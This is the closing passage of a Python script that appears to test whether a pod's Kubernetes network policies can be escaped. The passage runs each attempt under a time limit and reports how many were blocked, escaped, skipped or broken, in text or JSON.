    raise Outcome("broken", "not through after %d s" % ATTEMPT_LIMIT_S)


def play(function, facts, arguments):
    signal.alarm(ATTEMPT_LIMIT_S)
    try:
        function(facts, *arguments)
        return "broken", "came to no end"
    except Outcome as outcome:
        return outcome.kind, outcome.detail
    except Exception as fault:  # an attempt that cannot be carried out proves nothing, and must not stop the others
        return "broken", "%s: %s" % (type(fault).__name__, why(fault))
    finally:
        signal.alarm(0)


def quoted(text):
    out = "".join(c if 32 <= ord(c) < 127 and c not in '"\\' else "\\u%04x" % min(ord(c), 0xFFFF) for c in str(text))
    return '"' + out + '"'


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--strict", action="store_true", help="a skipped attempt is a failure")
    parser.add_argument("--only", default="", help="rows or names, by comma: N5,N8/other-resolvers-v4")
    parser.add_argument("--list", action="store_true")
    parser.add_argument("--node", help="an address of this pod's node; default: the way out")
    parser.add_argument("--peer", action="append", default=[], help="host:port of another pod that no policy allows")
    parser.add_argument("--service", action="append", default=[], help="address:port of a Service that no policy allows")
    parser.add_argument("--witness", action="append", default=[], help="address:port where somebody answers, by TCP and UDP")
    parser.add_argument("--name", action="append", default=[], help="a name that a policy allows")
    parser.add_argument("--inbound", type=int, default=8080, help="a declared inbound port")
    parser.add_argument("--wait", type=float, default=3.0, help="seconds until silence is silence")
    parser.add_argument("--inside", help=argparse.SUPPRESS)
    try:
        options = parser.parse_args()
    except SystemExit as end:
        return 64 if end.code else 0
    signal.signal(signal.SIGALRM, late)
    globals()["WAIT_S"] = options.wait
    if options.inside:
        return inside(options.inside)
    os.environ["REDTEAM_NET"] = os.readlink("/proc/self/ns/net")
    wanted = [w for w in options.only.split(",") if w]
    chosen = [a for a in ATTEMPTS if not wanted or a[0] in wanted or a[0].split("/")[0] in wanted]
    if not chosen:
        print("no attempt is called %s" % options.only, file=sys.stderr)
        return 64
    if options.list:
        print("\n".join(name for name, _, _ in chosen))
        return 0
    facts = Facts(options)
    began = time.time()
    results = []
    for name, function, arguments in chosen:
        start = time.time()
        outcome, detail = play(function, facts, arguments)
        results.append((name, outcome, detail, int(1000 * (time.time() - start))))
        if not options.json:
            print("%s: %s: %s" % (name, outcome, detail), flush=True)
    count = {kind: sum(1 for r in results if r[1] == kind) for kind in ("died", "ESCAPED", "skipped", "broken")}
    if options.json:
        rows = ",\n  ".join('{"id": %s, "outcome": %s, "detail": %s, "ms": %d}' % (quoted(r[0]), quoted(r[1]), quoted(r[2]), r[3]) for r in results)
        print('{"v": 1, "uid": %d, "seconds": %.1f, "died": %d, "escaped": %d, "skipped": %d, "broken": %d, "attempts": [\n  %s]}' % (facts.uid, time.time() - began, count["died"], count["ESCAPED"], count["skipped"], count["broken"], rows))
    else:
        print("%d died, %d ESCAPED, %d skipped, %d broken; uid %d, %.0f s" % (count["died"], count["ESCAPED"], count["skipped"], count["broken"], facts.uid, time.time() - began), flush=True)
    if count["ESCAPED"]:
        return 1
    return 3 if count["broken"] or (options.strict and count["skipped"]) else 0


if __name__ == "__main__":
    sys.exit(main())
